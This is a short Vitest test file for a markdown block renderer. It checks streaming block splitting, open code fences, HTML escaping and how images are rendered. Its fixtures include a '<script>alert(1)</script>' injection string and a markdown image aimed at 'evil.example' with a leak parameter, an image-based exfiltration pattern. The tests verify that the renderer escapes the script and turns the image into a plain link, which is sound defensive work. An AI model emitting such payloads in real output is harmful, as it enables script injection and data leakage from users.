// @vitest-environment happy-dom
import { describe, expect, it } from "vitest";
import { blocksOf, htmlOf } from "./blocks";

describe("Markdown blocks", () => {
  it("keep all but the last one while text streams in", () => {
    const text = "# Title\n\nFirst paragraph.\n\n```java\nint a = 1;\n```\n\nThe last one grows";
    const before = blocksOf(text).map((block) => block.raw);
    const after = blocksOf(`${text} and grows`).map((block) => block.raw);
    expect(after.slice(0, -1)).toEqual(before.slice(0, -1));
    expect(after.at(-1)).toContain("and grows");
  });

  it("show a fence that is still open as code", () => {
    expect(blocksOf("```ts\nconst a = 1")).toEqual([
      { kind: "code", raw: "```ts\nconst a = 1", language: "ts", code: "const a = 1" },
    ]);
  });

  it("show raw HTML as text", () => {
    expect(htmlOf("a <script>alert(1)</script> b")).not.toContain("<script");
    expect(htmlOf("List<String>")).toContain("&lt;String&gt;");
  });

  it("show an image as a link to it", () => {
    const html = htmlOf("![chart](https://evil.example/?leak=1)");
    expect(html).toContain('<a href="https://evil.example/?leak=1">chart</a>');
    expect(html).not.toContain("<img");
  });
});
